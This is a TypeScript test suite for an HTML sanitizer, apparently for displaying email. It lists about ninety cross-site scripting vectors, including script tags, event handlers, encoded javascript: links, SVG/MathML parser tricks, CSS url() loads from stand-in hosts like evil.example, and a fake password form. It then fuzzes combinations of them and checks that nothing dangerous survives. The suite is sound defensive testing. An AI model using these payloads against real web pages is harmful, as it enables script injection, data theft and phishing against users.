import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { HTML_LENGTH, safeHtml, showsSomething } from './safe-html.ts'

const safe = (html: string, ids: string[] = []) => safeHtml(html, new Set(ids)).html

/**
 * Output that every HTML parser reads alike: text without angle brackets, and tags of harmless elements whose
 * attributes are all in quotes. Whatever does not match this grammar could be something else to a browser.
 */
const GRAMMAR =
  /^(?:[^<>]|<\/?(?:a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)(?: [a-z-]+="[^"<>]*")*(?: \/)?>)*$/

const ATTRIBUTES = new Set(
  'style align valign bgcolor dir lang width height href title rel target src data-remote-src alt color face size border cellpadding cellspacing colspan rowspan start type'.split(
    ' ',
  ),
)

/** Reads output again, and names whatever could run, load, send or lie over something. */
function dangers(html: string): string[] {
  const found: string[] = GRAMMAR.test(html) ? [] : ['not plain HTML']
  for (const [, tag = '', attributes = ''] of html.matchAll(/<([a-z1-6]+)((?: [a-z-]+="[^"<>]*")*)/g)) {
    for (const [, name = '', coded = ''] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      const value = coded.replaceAll('&quot;', '"').replaceAll('&amp;', '&')
      if (!ATTRIBUTES.has(name)) found.push(`${tag} ${name}`)
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/.test(value)) found.push(`href ${value}`)
      if (name === 'src' && !value.startsWith('cid:')) found.push(`src ${value}`)
      if (name === 'data-remote-src' && !/^https?:\/\//.test(value)) found.push(`remote ${value}`)
      if (
        name === 'style' &&
        /url|expression|position|behavior|binding|@import|z-index|opacity|\\|\/\*|-\d/i.test(value)
      )
        found.push(`style ${value}`)
    }
  }
  return found
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="cid:own" oNeRrOr="alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="https://x.example/a" srcset="javascript:alert(1) 1x">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://x.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="/relative">x</a><a href="//evil.example">x</a><a href="#top">x</a>',
  '<a href=https://ok.example style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '<a href="https://ok.example" target="_top" rel="opener" onclick="x()" ping="https://p.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p><noscript></p><img src=x onerror=alert(1)></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<table><td><svg><desc><td><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe><iframe src=javascript:alert(1)>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x></applet>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example/p.png)">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="wi\\64th:exp/**/ression(alert(1))">x</p>',
  '<p style="color:red;-moz-binding:url(x);behavior:url(x)">x</p>',
  '<p style="color:red}body{background:url(x)">x</p>',
  '<p style="font-family:x;position:absolute;z-index:9999;margin:-500px;top:0">x</p>',
  '<p style="font-family:\'</p><script>alert(1)</script>\'">x</p>',
  '<div style="display:block;position:fixed;inset:0;opacity:0">x</div>',
  '<table background="https://evil.example/p.png"><td background="javascript:alert(1)">x</td></table>',
  '<body onload=alert(1) background="https://evil.example"><p>x</body>',
  '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<p id=location name=cookie class=x contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>',
  '<custom-element onclick=alert(1) is=x>x</custom-element>',
  '<p lang="en\' onclick=\'alert(1)">x</p>',
  '<p title="x" a="`onmouseover=alert(1)`">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<a href="https://x.example/\\"onmouseover=alert(1)//">x</a>',
  '<img alt="`><script>alert(1)</script>" src="https://x.example/a.png">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>\0<scr\0ipt>alert(1)</scr\0ipt>',
  '<div><a href=https://user:secret@bank.example@evil.example>x</a></div>',
  '<input type=image src=x onerror=alert(1)><keygen autofocus onfocus=alert(1)>',
  '<font color="red;background:url(x)" face="x" size="9999999">x</font>',
  '<td colspan="99999999"><table width="1e9">x</table>',
  '<',
  '<a',
  '<a href="',
  '<a href="https://x.example" <b>x',
  '</p></div></body></html>x',
]

describe('nothing that can run, load or send is left of', () => {
  test.each(VECTORS)('%s', (vector) => {
    const html = safe(vector, ['own'])
    expect(dangers(html)).toEqual([])
    expect(safe(html, ['own']), 'the same when it is read again').toBe(html)
  })

  test('any pieces of them together', () => {
    const piece = fc.oneof(
      fc
        .constantFrom(...VECTORS)
        .chain((vector) =>
          fc
            .tuple(fc.nat(vector.length), fc.nat(vector.length))
            .map(([a, b]) => vector.slice(Math.min(a, b), Math.max(a, b))),
        ),
      fc.constantFrom(
        '<svg>',
        '</svg>',
        '<math>',
        '<style>',
        '</style>',
        '<!--',
        '-->',
        '"',
        "'",
        '>',
        '<p>',
        '<table>',
        '&#60;',
      ),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(dangers(safe(pieces.join(''), ['own']))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })

  test('the check itself sees what is dangerous', () => {
    for (const html of [
      '<script>alert(1)</script>',
      '<p onclick="x()">x</p>',
      '<a href="javascript:x">x</a>',
      '<img src="https://x.example/a">',
      '<p style="background:url(x)">x</p>',
      '<p title=x>x</p>',
      '<!-- x -->',
    ])
      expect(dangers(html), html).not.toEqual([])
  })
})

test.each([
  [
    'links open apart and tell nobody',
    '<a href="https://x.example/a?b=1&c=2" title="T">x</a>',
    '<a href="https://x.example/a?b=1&amp;c=2" title="T" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  ],
  [
    'a name before the host goes',
    '<a href="https://bank.example@evil.example/">x</a>',
    '<a href="https://evil.example/" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  ],
  [
    'mail and telephone',
    '<a href="mailto:a@b.example">m</a><a href="tel:+34600">t</a>',
    '<a href="mailto:a@b.example" rel="noopener noreferrer nofollow" target="_blank">m</a><a href="tel:+34600" rel="noopener noreferrer nofollow" target="_blank">t</a>',
  ],
  [
    'a remote picture waits',
    '<img src="https://x.example/a.png" width="50" height="20" alt="A">',
    '<img alt="A" width="50" height="20" data-remote-src="https://x.example/a.png" />',
  ],
  [
    'a picture of no scheme is remote',
    '<img src="//x.example/a.png">',
    '<img alt="" data-remote-src="https://x.example/a.png" />',
  ],
  ['a picture of the mail stays', '<img src="cid:own" alt="A">', '<img alt="A" src="cid:own" />'],
  ['its name may be escaped', '<img src="CID:ow%6e">', '<img alt="" src="cid:own" />'],
  ['a picture of no part goes', '<img src="cid:other">', ''],
  ['pixels go, by attribute', '<img src="https://x.example/t" width=1 height="1px">', ''],
  ['pixels go, by style', '<img src="https://x.example/t" style="width: 1px !important; height: 0">', ''],
  ['a picture in data goes', '<img src="data:image/png;base64,iVBO">', ''],
  [
    'looks stay',
    '<p style="color:#f00;font-weight:bold;position:fixed">x</p>',
    '<p style="color:#f00;font-weight:bold">x</p>',
  ],
  [
    'tables stay',
    '<table width="100%" border="1" background="x"><tr><td colspan="2" bgcolor="#fff">x</td></tr></table>',
    '<table width="100%" border="1"><tr><td colspan="2" bgcolor="#fff">x</td></tr></table>',
  ],
  ['unknown elements leave their text', '<o:p>x</o:p><custom>y</custom>', 'xy'],
  ['forms go, with what is on their buttons', '<form>Name <input value=x><button>Go</button></form>', 'Name'],
  ['text stays text', 'a < b & c > d', 'a &lt; b &amp; c &gt; d'],
])('%s', (_, html, expected) => expect(safe(html, ['own'])).toBe(expected))

test('long HTML is cut, and what comes out is within the limit', () => {
  const { html, cut } = safeHtml('<a href="http://a.example">x</a>'.repeat(60_000), new Set())
  expect(cut).toBe(true)
  expect(html.length).toBeLessThanOrEqual(HTML_LENGTH)
  expect(html.length).toBeGreaterThan(HTML_LENGTH / 4)
})

test.each([
  ['a million open elements', '<div>'.repeat(180_000)],
  ['open tables', '<table><tr><td>'.repeat(60_000)],
  ['ends of nothing over open elements', '<b>'.repeat(100_000) + '</i>'.repeat(150_000)],
  ['comments that do not end', '<!--'.repeat(250_000)],
])('%s take linear time', (_, html) => expect(dangers(safe(`${html}x`))).toEqual([]))

test.each([
  ['<p>x</p>', true],
  ['<p><img src="cid:a" /></p>', true],
  ['<div><br /> \u00a0</div>', false],
  ['', false],
])('%s shows something: %s', (html, expected) => expect(showsSomething(html)).toBe(expected))
